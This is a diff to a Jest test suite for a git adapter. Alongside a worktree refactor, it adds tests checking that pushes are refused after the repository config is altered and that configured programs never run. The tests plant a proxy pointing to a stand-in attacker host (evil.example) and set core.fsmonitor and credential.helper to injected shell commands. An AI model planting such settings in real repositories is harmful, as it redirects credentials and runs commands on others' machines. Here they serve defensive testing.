@@ -2,7 +2,7 @@
 import { execFileSync } from 'node:child_process';
 import { once } from 'node:events';
 import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
-import { chmod, mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { chmod, cp, mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
 import { createServer } from 'node:http';
 import { createServer as createSilent, type Socket } from 'node:net';
 import { tmpdir } from 'node:os';
@@ -11,6 +11,7 @@ import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
 import { type EmbeddedGitHub, startGitHub } from '../../../rehearsal/github/embedded-github.ts';
 import { createState } from '../../../rehearsal/github/state.ts';
 import { type GitHandle, type GitSettings, openGit } from '../../../src/adapters/git/git.ts';
+import { linkWorktree } from '../../workspace/linked-worktree.ts';
 import { descendants, git } from '../copilot/a-runtime.ts';
 
 const token = `ghs_${'GitSecret'.repeat(5)}`;
@@ -309,24 +310,24 @@ describe('configuration of the checkout and the job', () => {
     Object.assign(process.env, variables);
     try {
       const run = await opened();
-      const directory = join(run.scratch, 'tree');
       await run.run(['fetch', '-q', run.remoteUrl, 'main'], { remote: true });
-      await run.run(['worktree', 'add', '-q', '--detach', directory, head()]);
+      const tree = await linkWorktree(run, 'tree', head());
+      const { directory } = tree;
       await writeFile(
         join(directory, '.gitattributes'),
         '* filter=x diff=x merge=x text=auto ident\n',
       );
       await writeFile(join(directory, 'b.txt'), 'one\r\n$Id$\r\n');
-      await run.run(['add', '.gitattributes', 'b.txt'], { directory });
-      await run.run(['diff', '--cached'], { directory });
+      await tree.run(['add', '.gitattributes', 'b.txt']);
+      await tree.run(['diff', '--cached']);
       const environment = {
         GIT_AUTHOR_NAME: 'A',
         GIT_AUTHOR_EMAIL: 'a@b',
         GIT_COMMITTER_NAME: 'A',
         GIT_COMMITTER_EMAIL: 'a@b',
       };
-      await run.run(['commit', '-q', '-m', 'x'], { directory, environment });
-      const made = (await run.run(['rev-parse', 'HEAD'], { directory })).trim();
+      await tree.run(['commit', '-q', '-m', 'x'], { environment });
+      const made = (await tree.run(['rev-parse', 'HEAD'])).trim();
       await run.run(['push', '-q', run.remoteUrl, `${made}:refs/heads/squad/1`], { remote: true });
       expect(await run.run(['cat-file', 'blob', `${made}:b.txt`])).toBe('one\r\n$Id$\r\n');
     } finally {
@@ -337,6 +338,34 @@ describe('configuration of the checkout and the job', () => {
       cwd: join(root, 'github/acme/shop.git'),
     });
     expect(String(made)).toMatch(/^[0-9a-f]{40}\n$/);
+  });
+
+  it('sends nothing once a program has changed the configuration of the run’s own repository', async () => {
+    const run = await opened();
+    await run.run(['fetch', '-q', run.remoteUrl, 'main'], { remote: true });
+    const config = join(run.repository, 'config');
+    await writeFile(
+      config,
+      `${readFileSync(config, 'utf8')}[http]\n\tproxy = http://evil.example\n`,
+    );
+    const push = ['push', '-q', run.remoteUrl, `${head()}:refs/heads/squad/1`];
+    await expect(run.run(push, { remote: true })).rejects.toThrow('changed the configuration');
+  });
+
+  it('goes to no proxy and starts no program that a configuration file names', async () => {
+    const run = await opened();
+    const changed = join(root, 'changed.git');
+    await cp(run.repository, changed, { recursive: true });
+    const started = join(root, 'started');
+    git(changed, 'config', 'core.fsmonitor', `touch ${started}; false`);
+    git(changed, 'config', 'credential.helper', `!touch ${started}; false`);
+    git(changed, 'config', 'http.proxy', 'http://127.0.0.1:9');
+    const environment = { GIT_DIR: changed };
+    await run.run(['fetch', '-q', run.remoteUrl, 'main'], { remote: true, environment });
+    const worktree = { directory: workspace, indexFile: join(root, 'index') };
+    await run.run(['read-tree', head()], { worktree, environment });
+    await run.run(['status'], { worktree, environment });
+    expect(existsSync(started)).toBe(false);
   });
 
   it('is left unchanged', async () => {
